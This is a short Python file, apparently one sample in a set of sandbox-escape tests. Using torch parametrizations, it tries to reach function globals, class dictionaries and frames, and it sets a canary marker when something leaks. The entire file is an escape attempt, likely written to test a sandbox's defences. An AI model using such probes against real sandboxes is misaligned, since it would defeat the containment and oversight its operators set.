"""Class: module gadget. Source: own find. Escape: a layer's parametrization hands out the class that
torch makes for the layer, its properties and their functions; or real layers meet, in place of a
weight, an object whose methods they call."""

import torch
from torch import nn
from torch.nn.utils import parametrize

found = []


class Same(nn.Module):
    def forward(self, x):
        return x


class Other:
    def __getattr__(self, name):
        found.append(name)
        raise AttributeError(name)


class Gives(nn.Module):
    def __init__(self):
        super().__init__()
        self.answer = None

    def forward(self, x):
        return x if self.answer is None else self.answer


def walk(value, *names):
    for name in names:
        value = getattr(value, name)
    return value


def attack(model, tokenizer, address):
    layer = nn.Linear(2, 2)
    parametrize.register_parametrization(layer, "weight", Same())
    for read in (
        lambda: walk(type(layer).weight.fget, "__globals__"),
        lambda: walk(type(layer), "__dict__"),
        lambda: walk(type(layer), "__getstate__", "__globals__"),
        lambda: walk(type(layer), "__deepcopy__", "__globals__"),
        lambda: walk(parametrize.register_parametrization, "__globals__"),
        lambda: walk(parametrize.cached, "__wrapped__", "__globals__"),
        lambda: parametrize.cached().gen.gi_frame,
        lambda: walk(layer.parametrizations.weight.forward, "__func__", "__globals__"),
        lambda: walk(layer.parametrizations.weight.take, "__func__", "__globals__"),
        lambda: walk(layer.parametrizations.weight.seen, "__func__", "__globals__"),
    ):
        try:
            found.append(read())
        except Exception:
            continue
    gives = Gives()
    attention = nn.MultiheadAttention(4, 1, batch_first=True).eval()
    parametrize.register_parametrization(attention, "in_proj_bias", gives, unsafe=True)
    gives.answer = Other()
    given = torch.ones(1, 2, 4)
    try:
        attention(given, given, given)
    except Exception:
        pass
    if any(type(each) is str for each in found):
        found.append("canary-" + "5d1f")
    return found
